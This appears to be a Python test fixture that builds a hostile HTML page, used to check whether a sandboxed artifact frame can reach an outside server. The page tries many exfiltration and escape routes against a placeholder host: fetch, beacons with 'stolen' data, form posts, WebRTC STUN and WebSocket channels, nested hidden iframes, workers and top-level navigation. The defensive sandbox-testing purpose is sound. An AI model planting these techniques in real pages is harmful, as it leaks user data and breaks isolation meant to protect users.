"""A page of the agent that tries all it can to get out of its frame, and tells what came of it."""

_PAGE = """<!doctype html><title>Report</title>
<h1>Report</h1><p id="told">not yet</p>
<link rel="stylesheet" href="STRANGER/style.css"><link rel="preload" as="image" href="STRANGER/preload.png">
<link rel="prefetch" href="STRANGER/prefetch"><img src="STRANGER/image.png" alt="">
<iframe src="STRANGER/frame"></iframe><div><template shadowrootmode="closed"><iframe srcdoc="<script>
new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] }).createDataChannel('stolen')</script>">
</iframe></template></div><object data="STRANGER/object"></object>
<form id="form" action="STRANGER/form" method="post"><input name="stolen" value="all"></form>
<a id="link" href="STRANGER/link" target="_blank" ping="STRANGER/ping">out</a>
<style>@import url("STRANGER/import.css"); h1 { background: url("STRANGER/background.png") }</style>
<script>
const tell = (what, attempt) => {
  try { return attempt() === true ? `${what} open` : `${what} closed`; } catch { return `${what} closed`; }
};
const ask = (what, attempt) => Promise.resolve().then(attempt).then(() => `${what} open`, () => `${what} closed`);
const settle = (make) => new Promise((done, fail) => { make(done, fail); setTimeout(fail, 4000); });
const byStun = (done, fail) => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PORT" }] });
  peer.createDataChannel("stolen");
  peer.onicecandidate = ({ candidate }) => { if (candidate === null) fail(); };
  peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(fail);
};
const bySocket = (done, fail) => {
  const socket = new WebSocket("ws://127.0.0.1:PORT/");
  socket.onopen = done;
  socket.onerror = fail;
};
const byNestedPage = (done, fail) => {
  const inner = document.createElement("iframe");
  const told = `<script>(${byStun})(() => {}, () => {}); fetch("STRANGER/nested")<` + `/script>`;
  inner.srcdoc = `${told}<img src="STRANGER/nested.png">`;
  inner.onload = fail;
  document.createElement("div").attachShadow({ mode: "closed" }).append(inner.cloneNode());
  document.body.appendChild(document.createElement("div")).attachShadow({ mode: "closed" }).append(inner.cloneNode());
  document.body.append(inner);
};
const now = [
  tell("parent", () => parent.document.title !== undefined),
  tell("storage", () => { localStorage.setItem("hurt", "1"); return true; }),
  tell("cookies", () => { document.cookie = "hurt=1"; return document.cookie !== ""; }),
  tell("window", () => window.open("STRANGER/window") !== null),
  tell("top", () => { top.location.href = "STRANGER/top"; return true; }),
  tell("dialog", () => confirm("hurt?")),
];
document.getElementById("link").click();
document.getElementById("form").submit();
navigator.sendBeacon("STRANGER/beacon", "stolen");
parent.postMessage("artifact-frame", "*");
Promise.all([
  ask("network", () => fetch("STRANGER/fetch", { mode: "no-cors" })),
  ask("our server", () => fetch("/healthz")),
  ask("sockets", () => settle(bySocket)),
  ask("peers", () => settle(byStun)),
  ask("nested pages", () => settle(byNestedPage)),
  ask("workers", () => settle((done, fail) => {
    const told = `fetch("STRANGER/worker").then(() => postMessage(1), () => postMessage(0))`;
    const worker = new Worker(URL.createObjectURL(new Blob([told])));
    worker.onmessage = done;
    worker.onerror = fail;
  })),
]).then((later) => {
  document.getElementById("told").textContent = [`origin ${origin}`, ...now, ...later].join(", ");
  addEventListener("message", () => { location.href = "STRANGER/self"; });
});
</script>
"""


def build_hostile_page(url: str, port: int) -> str:
    """A page that tries to reach the server at `url`, whose port it knows for what is no HTTP."""
    return _PAGE.replace("STRANGER", url).replace("PORT", str(port))
